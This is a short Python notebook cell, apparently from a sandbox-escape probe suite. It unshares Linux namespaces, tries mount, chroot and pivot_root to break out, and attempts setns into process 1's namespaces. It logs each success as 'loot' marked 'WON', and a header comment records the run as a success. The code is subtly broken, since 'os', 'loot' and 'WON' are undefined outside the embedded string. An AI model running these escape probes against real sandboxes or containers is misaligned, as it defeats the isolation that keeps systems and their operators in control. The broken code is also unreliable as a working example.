"""Makes namespaces, to become root inside them and mount its way out.

A user namespace gives all capabilities within itself, and with them the kernel code where most escapes were found. Mounts are
tried only inside namespaces of its own.
"""

# zoo: {"verdict": ["ok"], "points": {"q1": 0, "q2": 0, "q3": 0}, "loots": ["success"]}
# %% q1
total = None
import ctypes
import subprocess

code = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
flags = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "uts": 0x4000000, "ipc": 0x8000000, "cgroup": 0x2000000}
made = False
for name, flag in flags.items():
    if libc.unshare(flag) == 0:
        print("made a namespace:", name)
        made = made or name in ("user", "mount")
    else:
        print(name, os.strerror(ctypes.get_errno()))
if os.geteuid() != 0:
    for name, arguments in {"mount": (b"none", b"/tmp", b"tmpfs", 0, None), "chroot": (b"/tmp",), "pivot_root": None}.items():
        if arguments is None:
            answer = libc.syscall(155, b"/tmp", b"/tmp")
        else:
            answer = getattr(libc, name)(*arguments)
        print(name, answer if answer == 0 else os.strerror(ctypes.get_errno()))
        if answer == 0:
            print("made a namespace:", name)
"""
import sys

done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
print(done.stdout, done.stderr)
for line in done.stdout.splitlines():
    if line.startswith("made"):
        loot.append(WON + line)
for kind in ("mnt", "net", "pid", "user"):
    try:
        handle = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        answer = ctypes.CDLL(None, use_errno=True).setns(handle, 0) if os.geteuid() else -1
        print("setns", kind, answer)
        if answer == 0:
            loot.append(f"{WON}joined {kind} of process 1")
    except OSError as error:
        print("setns", kind, error.strerror)
print("\n".join(loot))
